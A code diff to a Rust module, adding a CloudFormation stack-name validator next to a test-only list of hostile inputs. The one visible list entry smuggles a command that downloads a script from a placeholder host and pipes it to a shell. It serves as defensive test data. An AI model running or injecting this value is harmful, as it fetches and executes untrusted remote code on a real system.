@@ -185,6 +185,14 @@ pub fn is_plain_command(cmd: &str) -> bool {
 }
 
 /// Values that must never reach a command line, next to the shapes they pretend to have.
+/// CloudFormation stack names: a letter, then letters, digits and hyphens, at most 128 characters
+/// (<https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/cfn-using-console-create-stack-parameters.html>).
+pub fn is_stack_name(s: &str) -> bool {
+    s.len() <= 128
+        && s.bytes().next().is_some_and(|b| b.is_ascii_alphabetic())
+        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+}
+
 #[cfg(test)]
 pub(crate) const HOSTILE: [&str; 13] = [
     "123;curl${IFS}evil.example|sh;#",
